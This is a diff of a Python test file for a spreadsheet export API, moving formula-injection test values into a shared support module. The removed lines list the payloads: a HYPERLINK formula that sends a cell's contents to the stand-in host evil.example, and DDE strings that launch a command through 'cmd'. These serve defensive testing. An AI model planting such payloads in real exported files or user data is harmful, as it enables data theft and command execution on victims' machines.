@@ -12,21 +12,10 @@ import openpyxl
 
 from models import Batch
 from tests.support.factories import auth
+from tests.support.formula_injection import HYPERLINK, INJECTED
 from tests.support.reporting import JAN_1_2021, voucher_row, wuxi_2021
 
 API = "/api/v1"
-HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
-# The eight forms of the issue: each formula character, and `=` behind a tab, a space and a CR.
-INJECTED = [
-    HYPERLINK,
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t" + HYPERLINK,
-    " " + HYPERLINK,
-    "\r" + HYPERLINK,
-    "\t =1+1",
-]
 FORMULA = ("=", "+", "-", "@")
 
 
